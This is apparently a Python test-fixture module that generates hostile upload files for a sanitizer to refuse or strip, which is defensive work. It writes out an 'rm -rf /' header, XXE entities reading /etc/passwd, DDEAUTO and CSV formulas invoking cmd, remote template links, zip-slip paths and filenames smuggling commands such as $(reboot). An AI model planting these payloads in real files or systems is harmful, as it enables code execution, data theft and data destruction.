"""Files that were made to do harm: more than five hundred, each made on the spot, none of them dangerous to keep.

What must not get through carries ``MARK``. A case that says ``refused`` must be refused; any other may also be taken,
if nothing of the mark is left in what is kept.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

from tests.factories.files import excel, pdf, picture, word, zipped

MARK = b"H0STILE-PAYLOAD"
SCRIPT = b"<script>alert('" + MARK + b"')</script>"


@dataclass(frozen=True)
class Hostile:
    """One file. ``refused``: must not be taken at all."""

    label: str
    name: str
    content: bytes
    refused: bool = True


def all_files() -> list[Hostile]:
    """Return every case; labels are unique."""
    return [
        *programs(),
        *markup(),
        *broken_pictures(),
        *telling_pictures(),
        *two_in_one(),
        *active_pdfs(),
        *broken_pdfs(),
        *office_documents(),
        *archives(),
        *texts(),
    ]


# --- programs and other kinds, under names that promise something else ------------------------------------------

HEADS = {
    "exe": b"MZ\x90\x00\x03" + b"\x00" * 60 + b"PE\x00\x00",
    "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "python": b"#!/usr/bin/env python3\nimport os\n",
    "mach-o": b"\xcf\xfa\xed\xfe" + b"\x00" * 60,
    "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 40,
    "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60,
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 60,
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 60,
    "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 60,
    "bzip2": b"BZh91AY&SY" + b"\x00" * 60,
    "xz": b"\xfd7zXZ\x00" + b"\x00" * 60,
    "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "locked office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + b"\x00" * 600
    + "EncryptedPackage".encode("utf-16-le"),
    "flash": b"FWS\x0a" + b"\x00" * 60,
    "wasm": b"\x00asm\x01\x00\x00\x00",
    "sqlite": b"SQLite format 3\x00" + b"\x00" * 60,
    "mp4": b"\x00\x00\x00\x18ftypisom" + b"\x00" * 60,
    "mp3": b"ID3\x03\x00" + b"\x00" * 60,
    "avi": b"RIFF\x00\x01\x00\x00AVI LIST" + b"\x00" * 60,
    "bmp": b"BM" + b"\x00" * 60,
    "tiff": b"II*\x00\x08\x00\x00\x00" + b"\x00" * 60,
    "icon": b"\x00\x00\x01\x00\x01\x00" + b"\x00" * 60,
    "photoshop": b"8BPS\x00\x01" + b"\x00" * 60,
    "postscript": b"%!PS-Adobe-3.0\n/x {exec} def\n\x04",
    "font": b"\x00\x01\x00\x00\x00\x0f\x00\x80" + b"\x00" * 60,
    "rtf": b"{\\rtf1\\object\\objdata " + MARK + b"}\x00",
    "debian": b"!<arch>\ndebian-binary   " + b"\x00" * 60,
    "cabinet": b"MSCF\x00\x00\x00\x00" + b"\x00" * 60,
    "nothing": b"",
}


def programs() -> Iterator[Hostile]:
    """Programs, archives, old documents: whatever the name says."""
    for kind, head in HEADS.items():
        for name in ("a.jpg", "a.pdf", "a.docx", "a.txt", "a.csv"):
            yield Hostile(f"{kind} as {name}", name, head + (MARK if head else b""))


# --- what a browser would run ---------------------------------------------------------------------------------

MARKUP = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + MARK + b'"/>',
    "svg with prolog": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    "svg after a comment": b"<!-- x -->\n<svg>" + SCRIPT + b"</svg>",
    "html": b"<!DOCTYPE html><html><body>" + SCRIPT,
    "html, late": b"text " * 400 + SCRIPT,
    "html in capitals": b"<HTML><BODY ONLOAD=" + MARK + b">",
    "html, blank in the tag": b"< script >" + MARK,
    "iframe": b'<iframe src="//' + MARK + b'">',
    "image tag": b"<img src=x onerror=" + MARK + b">",
    "php": b"<?php system('" + MARK + b"'); ?>",
    "short php": b"<?= `" + MARK + b"` ?>",
    "asp": b"<%@ Language=VBScript %>" + MARK,
    "xml with an entity": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "xslt": b'<xsl:stylesheet version="1.0">' + MARK,
    "hta": b"<hta:application/>" + SCRIPT,
    "link of a script": b"javascript:" + MARK,
}


def markup() -> Iterator[Hostile]:
    """Markup, in several encodings, under several names."""
    for kind, text in MARKUP.items():
        words = text.decode()
        for coding, content in (
            ("utf-8", text),
            ("utf-8 with mark", b"\xef\xbb\xbf" + text),
            ("utf-16", words.encode("utf-16")),
        ):
            for name in ("a.txt", "a.csv"):
                yield Hostile(f"{kind} in {coding} as {name}", name, content)
        yield Hostile(f"{kind} as picture", "a.png", text)


# --- pictures ---------------------------------------------------------------------------------------------------


def heic(size: tuple[int, int] = (64, 64), exif: bytes | None = None) -> bytes:
    """Return a picture as newer phones make it."""
    data = io.BytesIO()
    made = pillow_heif.from_pillow(Image.new("RGB", size, "steelblue"))
    made.save(data, quality=60, **({"exif": exif} if exif else {}))
    return data.getvalue()


def _noise(size: tuple[int, int] = (200, 160)) -> Image.Image:
    return Image.frombytes("RGB", size, random.Random(7).randbytes(size[0] * size[1] * 3))


def _encoded(form: str) -> bytes:
    if form == "HEIF":
        return heic((200, 160))
    data = io.BytesIO()
    _noise().save(data, form)
    return data.getvalue()


FORMS = {"JPEG": "jpg", "PNG": "png", "GIF": "gif", "WEBP": "webp", "HEIF": "heic"}


def _png(width: int, height: int, body: bytes = b"", extra: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + extra
        + chunk(b"IDAT", body or zlib.compress(b"\0" * 99))
        + chunk(b"IEND", b"")
    )


def broken_pictures() -> Iterator[Hostile]:
    """Pictures that are cut off, that say they are enormous, or that are no pictures at all."""
    rest = random.Random(11)
    for form, suffix in FORMS.items():
        whole = _encoded(form)
        for part in (3, 10, 25, 50, 75):
            cut = whole[: len(whole) * part // 100]
            yield Hostile(
                f"{form} cut off at {part} %",
                f"a.{suffix}",
                cut,
                refused=form not in {"JPEG", "HEIF", "WEBP"} or part < 75,
            )
        for number in range(6):
            yield Hostile(f"{form} of noise {number}", f"a.{suffix}", whole[:24] + rest.randbytes(400))
    for width, height in (
        (60_000, 60_000),
        (100_000, 1),
        (2**31 - 1, 2**31 - 1),
        (0, 0),
        (0, 5),
        (40_000, 10),
    ):
        yield Hostile(f"PNG that says {width} × {height}", "a.png", _png(width, height))
    jpeg = bytearray(_encoded("JPEG"))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    yield Hostile("JPEG that says 65500 × 65500", "a.jpg", bytes(jpeg))
    gif = bytearray(_encoded("GIF"))
    gif[6:10] = struct.pack("<HH", 65_535, 65_535)
    yield Hostile("GIF that says 65535 × 65535", "a.gif", bytes(gif))
    webp = bytearray(_encoded("WEBP"))
    place = webp.index(b"\x9d\x01\x2a") + 3
    webp[place : place + 4] = struct.pack("<HH", 16_383, 16_383)
    yield Hostile("WebP that says 16383 × 16383", "a.webp", bytes(webp))
    big = io.BytesIO()
    Image.new("1", (9000, 8000)).save(big, "PNG")
    yield Hostile("PNG that unpacks to very many pixels", "a.png", big.getvalue())
    for kind in (b"zTXt", b"iTXt"):
        words = b"Comment\0\0" if kind == b"zTXt" else b"Comment\0\1\0\0\0"
        packed = words + zlib.compress(b"A" * 20_000_000)
        extra = struct.pack(">I", len(packed)) + kind + packed + struct.pack(">I", zlib.crc32(kind + packed))
        yield Hostile(
            f"PNG with a packed text of 20 MB ({kind.decode()})",
            "a.png",
            _png(3, 3, extra=extra),
            refused=False,
        )


def _gps() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F], exif[0x9286], exif[0x013B] = MARK.decode(), MARK, MARK.decode()
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (31.0, 13.0, 49.0), "E", (121.0, 28.0, 12.0)
    place[29] = MARK.decode()
    return exif


def telling_pictures() -> Iterator[Hostile]:
    """Pictures that say more than they show: place, camera, comments, thumbnails, other frames."""
    exif = _gps()
    for form, suffix in FORMS.items():
        if form in {"GIF", "HEIF"}:
            continue
        data = io.BytesIO()
        _noise().save(data, form, exif=exif)
        yield Hostile(f"{form} with place and camera", f"a.{suffix}", data.getvalue(), refused=False)
        data = io.BytesIO()
        _noise().save(data, form, exif=exif, icc_profile=MARK * 20)
        yield Hostile(f"{form} with a profile that is none", f"a.{suffix}", data.getvalue(), refused=False)
    yield Hostile("HEIF with place and camera", "a.heic", heic(exif=exif.tobytes()), refused=False)
    data = io.BytesIO()
    _noise().save(data, "GIF", comment=MARK)
    yield Hostile("GIF with a comment", "a.gif", data.getvalue(), refused=False)
    data = io.BytesIO()
    _noise().save(data, "JPEG", comment=SCRIPT)
    yield Hostile("JPEG with a comment", "a.jpg", data.getvalue(), refused=False)
    for compressed in (False, True):
        told = PngImagePlugin.PngInfo()
        told.add_text("Comment", SCRIPT.decode(), zip=compressed)
        told.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
        data = io.BytesIO()
        _noise().save(data, "PNG", pnginfo=told)
        yield Hostile(f"PNG with texts, packed: {compressed}", "a.png", data.getvalue(), refused=False)
    for form, suffix in (("GIF", "gif"), ("PNG", "png"), ("WEBP", "webp")):
        data = io.BytesIO()
        _noise().save(data, form, save_all=True, append_images=[_noise(), _noise()], duration=10)
        yield Hostile(f"{form} with more frames", f"a.{suffix}", data.getvalue() + MARK, refused=False)
    jpeg = _encoded("JPEG")
    for marker in range(0xE0, 0xF0):
        segment = bytes([0xFF, marker]) + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
        yield Hostile(
            f"JPEG with a segment {marker:x}", "a.jpg", jpeg[:2] + segment + jpeg[2:], refused=False
        )


def two_in_one() -> Iterator[Hostile]:
    """Files that are two things at once, for whoever looks only at one end."""
    tails = {
        "zip": zipped({"x.html": SCRIPT}),
        "jar": zipped({"META-INF/MANIFEST.MF": MARK, "x.class": MARK}),
        "html": b"\n<html>" + SCRIPT,
        "php": b"\n<?php " + MARK + b" ?>",
        "exe": b"MZ" + MARK,
        "pdf": pdf() + MARK,
    }
    for form, suffix in FORMS.items():
        for kind, tail in tails.items():
            yield Hostile(f"{form} and {kind}", f"a.{suffix}", _encoded(form) + tail, refused=False)
    for kind, tail in tails.items():
        if kind in {"zip", "jar"}:
            yield Hostile(f"PDF and {kind}", "a.pdf", pdf() + tail)
            yield Hostile(f"Word document and {kind}", "a.docx", word() + tail)
            yield Hostile(f"{kind} behind a text", "a.txt", b"text\n" + tail)
            yield Hostile(f"{kind} behind a script", "a.zip", SCRIPT + tail)
    yield Hostile("PDF behind a text", "a.txt", b"text\n" + pdf())
    yield Hostile("PDF behind a program", "a.pdf", b"MZ" + pdf())
    yield Hostile("PDF behind markup", "a.pdf", SCRIPT + pdf())
    yield Hostile("Word document behind a program", "a.docx", b"MZ\0\0" + word())
    data = bytearray(word())
    data += MARK
    yield Hostile("Word document with something behind it", "a.docx", bytes(data))
    commented = io.BytesIO(excel())
    with zipfile.ZipFile(commented, "a") as archive:
        archive.comment = SCRIPT
    yield Hostile("workbook with a comment of the archive", "a.xlsx", commented.getvalue())


# --- PDF --------------------------------------------------------------------------------------------------------


def _pdf_with(change: Any, **options: Any) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    data = io.BytesIO()
    document.save(data, **options)
    return data.getvalue()


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(MARK.decode()))


def _attached(document: pikepdf.Pdf) -> Dictionary:
    stream = document.make_stream(MARK, Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F="x.exe", UF="x.exe", EF=Dictionary(F=stream))


def _annotation(**more: Any) -> Any:
    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **more)
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return change


def _of_root(name: str, value: Any) -> Any:
    def change(document: pikepdf.Pdf) -> None:
        document.Root[name] = value(document) if callable(value) else value

    return change


ACTIVE = {
    "script when opened": _of_root("/OpenAction", lambda pdf: _script()),
    "script when opened, apart": _of_root("/OpenAction", lambda pdf: pdf.make_indirect(_script())),
    "script in a stream": _of_root(
        "/OpenAction", lambda pdf: Dictionary(S=Name.JavaScript, JS=pdf.make_stream(MARK))
    ),
    "script by name": _of_root(
        "/Names", lambda pdf: Dictionary(JavaScript=Dictionary(Names=Array([String("x"), _script()])))
    ),
    "script when closed": _of_root("/AA", lambda pdf: Dictionary(WC=_script())),
    "script behind another action": _of_root(
        "/OpenAction", lambda pdf: Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([_script()]))
    ),
    "script of a field": _of_root(
        "/AcroForm",
        lambda pdf: Dictionary(Fields=Array([Dictionary(FT=Name.Tx, AA=Dictionary(K=_script()))])),
    ),
    "script of a link": _annotation(Subtype=Name.Link, A=_script()),
    "program started": _of_root(
        "/OpenAction", lambda pdf: Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P=MARK.decode()))
    ),
    "program of a link": _annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=MARK.decode())),
    "answers sent off": _annotation(Subtype=Name.Widget, A=Dictionary(S=Name.SubmitForm, F=MARK.decode())),
    "answers fetched": _annotation(Subtype=Name.Widget, A=Dictionary(S=Name.ImportData, F=MARK.decode())),
    "jump into an embedded file": _annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToE, T=MARK.decode())),
    "embedded file": _of_root(
        "/Names", lambda pdf: Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), _attached(pdf)])))
    ),
    "associated file": _of_root("/AF", lambda pdf: Array([_attached(pdf)])),
    "pinned file": lambda pdf: _annotation(Subtype=Name.FileAttachment, FS=_attached(pdf))(pdf),
    "rich media": _annotation(Subtype=Name.RichMedia),
    "film": _annotation(Subtype=Name.Movie),
    "sound": _annotation(Subtype=Name.Sound),
    "screen": _annotation(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS=MARK.decode())),
    "three dimensions": _annotation(Subtype=Name("/3D")),
    "form of XML": _of_root("/AcroForm", lambda pdf: Dictionary(XFA=pdf.make_stream(MARK))),
}


def active_pdfs() -> Iterator[Hostile]:
    """PDFs that do something, written in three ways."""
    ways: dict[str, dict[str, Any]] = {
        "plain": {"object_stream_mode": pikepdf.ObjectStreamMode.disable, "compress_streams": False},
        "packed": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
        "for nobody to change": {
            "encryption": pikepdf.Encryption(
                owner="x", user="", R=6, allow=pikepdf.Permissions(extract=False)
            )
        },
    }
    for kind, change in ACTIVE.items():
        for way, options in ways.items():
            yield Hostile(f"PDF, {kind}, {way}", "a.pdf", _pdf_with(change, **options))


def broken_pdfs() -> Iterator[Hostile]:
    """PDFs that are locked, cut off, empty, or no PDFs."""
    for revision in (2, 3, 4, 6):
        locked = pikepdf.Encryption(
            owner="x", user="secret", R=revision, aes=revision >= 4, metadata=revision >= 4
        )
        yield Hostile(
            f"PDF locked in way {revision}", "a.pdf", _pdf_with(lambda pdf: None, encryption=locked)
        )
    whole = pdf(5)
    for part in (5, 20, 40, 60, 80, 95):
        yield Hostile(f"PDF cut off at {part} %", "a.pdf", whole[: len(whole) * part // 100])
    rest = random.Random(5)
    for number in range(12):
        yield Hostile(f"PDF of noise {number}", "a.pdf", b"%PDF-1.7\n" + rest.randbytes(600) + b"\n%%EOF")
    yield Hostile("PDF without pages", "a.pdf", _pdf_with(lambda document: document.pages.__delitem__(0)))
    yield Hostile("PDF of its first line", "a.pdf", b"%PDF-1.4\n%%EOF")
    deep = b"[" * 5_000 + b"]" * 5_000
    yield Hostile(
        "PDF of lists in lists",
        "a.pdf",
        b"%PDF-1.4\n1 0 obj " + deep + b" endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    )
    loop = (
        b"%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>> endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )
    yield Hostile("PDF whose pages are its own", "a.pdf", loop)


# --- Office -----------------------------------------------------------------------------------------------------

_TYPES = b"[Content_Types].xml"
_W = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
_RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)
_TYPE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def with_entries(base: bytes, entries: dict[str, bytes]) -> bytes:
    """Return an Office document with entries added or exchanged."""
    data = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in entries:
                new.writestr(entry.filename, old.read(entry))
        for name, content in entries.items():
            new.writestr(name, content)
    return data.getvalue()


def _external(kind: bytes, target: bytes) -> bytes:
    return _RELS % (
        b'<Relationship Id="r9" Type="' + _TYPE + kind + b'" Target="' + target + b'" TargetMode="External"/>'
    )


def office_documents() -> Iterator[Hostile]:
    """Word and Excel documents with macros, objects, links that fetch, entities, and bombs."""
    for kind, base, folder, main in (
        ("docx", word(), "word", "word/document.xml"),
        ("xlsx", excel(), "xl", "xl/workbook.xml"),
    ):
        laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 9))
        entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        changes: dict[str, dict[str, bytes]] = {
            "macros": {f"{folder}/vbaProject.bin": MARK},
            "macros elsewhere": {"custom/vbaProject.bin": MARK},
            "macros in capitals": {f"{folder}/VBAPROJECT.BIN": MARK},
            "macro sheets": {f"{folder}/macrosheets/sheet1.xml": b"<x/>"},
            "packed macro sheets": {f"{folder}/macrosheets/sheet1.bin": MARK},
            "a control": {f"{folder}/activeX/activeX1.bin": MARK},
            "a control of XML": {f"{folder}/activeX/activeX1.xml": b"<x/>"},
            "an embedded program": {f"{folder}/embeddings/oleObject1.bin": MARK},
            "a program": {f"{folder}/media/x.exe": MARK},
            "a script": {f"{folder}/media/x.js": MARK},
            "a page of the web": {f"{folder}/afchunk.html": SCRIPT},
            "a picture of markup": {f"{folder}/media/image1.svg": MARKUP["svg"]},
            "an archive": {f"{folder}/media/x.zip": zipped({"x": MARK})},
            "a document with macros in it": {
                f"{folder}/embeddings/inner.docx": with_entries(word(), {"word/vbaProject.bin": MARK})
            },
            "documents in documents": {
                f"{folder}/embeddings/inner.docx": with_entries(word(), {"word/embeddings/x.docx": word()})
            },
            "a template of the web": {
                f"{folder}/_rels/settings.xml.rels": _external(
                    b"attachedTemplate", b"https://x.example/a.dotm"
                )
            },
            "a template of a share": {
                f"{folder}/_rels/settings.xml.rels": _external(b"attachedTemplate", b"\\\\10.0.0.9\\a.dotm")
            },
            "a template of a share by address": {
                f"{folder}/_rels/settings.xml.rels": _external(b"attachedTemplate", b"file://10.0.0.9/a.dotm")
            },
            "an object of the web": {
                f"{folder}/_rels/x.xml.rels": _external(b"oleObject", b"mhtml:https://x.example/a.html!x")
            },
            "a frame of the web": {f"{folder}/_rels/x.xml.rels": _external(b"frame", b"https://x.example/")},
            "a picture that tells who reads": {
                f"{folder}/_rels/x.xml.rels": _external(b"image", b"https://x.example/a.png")
            },
            "an entity": {main: entity},
            "an entity in UTF-16": {main: entity.decode().encode("utf-16")},
            "an entity in a hidden encoding": {main: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-'},
            "a thousand laughs": {main: b"<!DOCTYPE x [" + laughs + b"]><x>&l8;</x>"},
            "no XML at all": {main: MARK},
            "a bomb": {main: b"<x>" + b"a" * 20_000_000 + b"</x>"},
            "a bomb in a picture": {f"{folder}/media/image1.png": b"\0" * 20_000_000},
            "very many parts": {f"{folder}/p{n}.xml": b"<x/>" for n in range(2_100)},
            "a way out": {"../../etc/x.xml": b"<x/>"},
            "a way out for Windows": {"..\\..\\x.xml": b"<x/>"},
        }
        if kind == "docx":
            said = _W + b"<w:p><w:r><w:instrText>%s</w:instrText></w:r></w:p></w:body></w:document>"
            changes["a field that starts a program"] = {main: said % b"DDEAUTO c:\\\\cmd.exe"}
            parts = b"DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd"
            changes["a field that starts a program, in pieces"] = {main: said % parts}
            changes["a simple field that starts a program"] = {
                main: _W + b'<w:p><w:fldSimple w:instr="DDE cmd"/></w:p></w:body></w:document>'
            }
            changes["a picture field of the web"] = {
                main: said % b"INCLUDEPICTURE &quot;http://x.example/a&quot;"
            }
        else:
            changes["a link that starts a program"] = {
                "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'
            }
        for label, entries in changes.items():
            yield Hostile(f"{kind} with {label}", f"a.{kind}", with_entries(base, entries))
        content_types = zipfile.ZipFile(io.BytesIO(base)).read(_TYPES.decode())
        macro = content_types.replace(
            b"</Types>", b'<Override ContentType="x.macroEnabled.main+xml"/></Types>'
        )
        yield Hostile(
            f"{kind} of the kind with macros", f"a.{kind}m", with_entries(base, {_TYPES.decode(): macro})
        )
        for part in (10, 40, 70, 95):
            yield Hostile(f"{kind} cut off at {part} %", f"a.{kind}", base[: len(base) * part // 100])
        yield Hostile(f"{kind} locked", f"a.{kind}", _locked(base))
        damaged = bytearray(base)
        damaged[len(base) // 3 : len(base) // 3 + 40] = bytes(40)
        yield Hostile(f"{kind} with a hole", f"a.{kind}", bytes(damaged))


def _locked(data: bytes) -> bytes:
    """Return a zip that says of each entry that it is locked."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


# --- archives ---------------------------------------------------------------------------------------------------


def _link() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        entry = zipfile.ZipInfo("a.txt")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return data.getvalue()


def _named(name: str) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr(zipfile.ZipInfo("placeholder"), b"text")
    return data.getvalue().replace(b"placeholder", name.encode().ljust(11, b"x")[:11])


def _overlapping(count: int) -> bytes:
    """Return a zip whose directory names one packed entry many times."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a" * 8, b"\0" * 60_000)
    whole = data.getvalue()
    at = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    entry = whole[at:end]
    entries = b"".join(entry.replace(b"a" * 8, b"%08d" % number) for number in range(count))
    tail = bytearray(whole[end:])
    tail[8:12] = struct.pack("<HH", count, count)
    tail[12:16] = struct.pack("<I", len(entries))
    return whole[:at] + entries + bytes(tail)


def archives() -> Iterator[Hostile]:
    """Archives: what lies elsewhere, becomes too much, or holds what would be refused by itself."""
    for name in (
        "../../x.txt",
        "/etc/x.txt",
        "..\\..\\x.t",
        "C:\\x.txtxx",
        "a/../../x",
        "a\x01b.txt",
        "\\\\h\\s\\x",
    ):
        yield Hostile(f"archive with {name!r}", "a.zip", _named(name))
    yield Hostile("archive with a link", "a.zip", _link())
    yield Hostile("archive with nothing", "a.zip", zipped({}))
    yield Hostile("archive with one name twice", "a.zip", zipped({"a.txt": b"1", "A.TXT": b"2"}))
    yield Hostile("archive that is a bomb", "a.zip", zipped({"a.txt": b"a" * 30_000_000}))
    yield Hostile("archive of many bombs", "a.zip", zipped({f"{n}.txt": b"a" * 60_000 for n in range(1_900)}))
    yield Hostile("archive of very many entries", "a.zip", zipped({f"{n}.txt": b"a" for n in range(2_100)}))
    yield Hostile("archive that names one thing often", "a.zip", _overlapping(1_500))
    yield Hostile("archive in an archive", "a.zip", zipped({"b.zip": zipped({"x.txt": b"x"})}))
    yield Hostile(
        "archive in an archive by another name", "a.zip", zipped({"b.txt": zipped({"x.exe": MARK})})
    )
    yield Hostile("archive that is locked", "a.zip", _locked(zipped({"a.txt": b"text"})))
    yield Hostile("archive of an app", "a.zip", zipped({"AndroidManifest.xml": MARK}))
    yield Hostile("archive that is a program for Java", "a.zip", zipped({"META-INF/MANIFEST.MF": MARK}))
    whole = zipped({"a.txt": b"text" * 50})
    for part in (20, 60, 90):
        yield Hostile(f"archive cut off at {part} %", "a.zip", whole[: len(whole) * part // 100])
    for label, content in {
        "a program": HEADS["exe"] + MARK,
        "a page": MARKUP["html"],
        "a drawing": MARKUP["svg"],
        "a document with macros": with_entries(word(), {"word/vbaProject.bin": MARK}),
        "a PDF with a script": _pdf_with(ACTIVE["script when opened"]),
        "a locked PDF": _pdf_with(lambda document: None, encryption=pikepdf.Encryption(owner="x", user="y")),
        "a broken picture": picture()[:60],
        "a table of formulas": b"=cmd|'/c calc'!A1",
    }.items():
        name = "x.csv" if "formulas" in label else "x.bin"
        yield Hostile(f"archive with {label}", "a.zip", zipped({"ok.txt": b"text", name: content}))
    exif = _gps()
    yield Hostile(
        "archive with a telling picture", "a.zip", zipped({"x.jpg": picture(exif=exif)}), refused=False
    )


# --- texts ------------------------------------------------------------------------------------------------------


def texts() -> Iterator[Hostile]:
    """Tables that would be worked out, and texts that are none."""
    formulas = (
        "=1+1",
        "=cmd|'/c calc'!A0",
        "@SUM(1)",
        "+1+cmd|' /c'!A",
        "-2+3+cmd|' /c'!A",
        "\t=1+1",
        " =1+1",
        '"=1+1"',
        "＝1+1",
        "＠x",
        "＋x()",
        "－x()",
        '=HYPERLINK("http://x")',
        '=IMPORTXML(CONCAT("http://x"),"//a")',
        "'=1",
    )
    for number, formula in enumerate(formulas):
        for mark in (",", ";", "\t"):
            row = f"编号{mark}{formula}{mark}x\n"
            yield Hostile(f"table with formula {number} between {mark!r}", "a.csv", row.encode())
    for number in (*range(0, 9), 11, *range(14, 32), 127):
        yield Hostile(f"text with control character {number}", "a.txt", b"text" + bytes([number]) + MARK)
    rest = random.Random(3)
    for number in range(15):
        yield Hostile(f"noise {number}", "a.txt", rest.randbytes(2_000))


NAMES = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\a\\b.jpg", "a/b/c.jpg",
    "con.jpg", "CON", "nul.txt", "com1.jpg", "lpt9", ".htaccess", "..", ".", "", " ", "\u3000",
    "a.jpg\x00.exe", "a\x00b.jpg", "a\nb.jpg", "a\r\nX: y.jpg", "\u202egpj.exe", "a\u202egpj.exe",
    "a\u2066b\u2069.jpg", "a\u200bb.jpg", "a\ufeff.jpg", "a\u00ad.jpg", "\ue000.jpg", "a.jpg.exe",
    "a.exe.jpg", "a.jpg.", "a.jpg ", "a.jpg::$DATA", "a.php;.jpg", "a.php%00.jpg", "<img src=x>.jpg",
    "\"><script>.jpg", "';--.jpg", "$(reboot).jpg", "`id`.jpg", "|cmd.jpg", "a?b*c.jpg",
    "x" * 400 + ".jpg", "照" * 200 + ".jpg", "é.jpg", "e\u0301.jpg", "ａ．ｊｐｇ", "a.JPG", "a.jpeg", "a",
    "a.tar.gz", "🚗.jpg", "\ud800.jpg", "a\u2028b.jpg", "a\u2029b.jpg", "%2e%2e%2fa.jpg", "~root.jpg",
    "-rf.jpg", "a.svg", "a.html", "a.docm", "=cmd.jpg", "@a.jpg", "a\tb.jpg", "a  b.jpg",
    "file:///etc/passwd", "\\\\host\\share\\a.jpg",
)  # fmt: skip
"""Names that files come with; behind each is a harmless picture."""
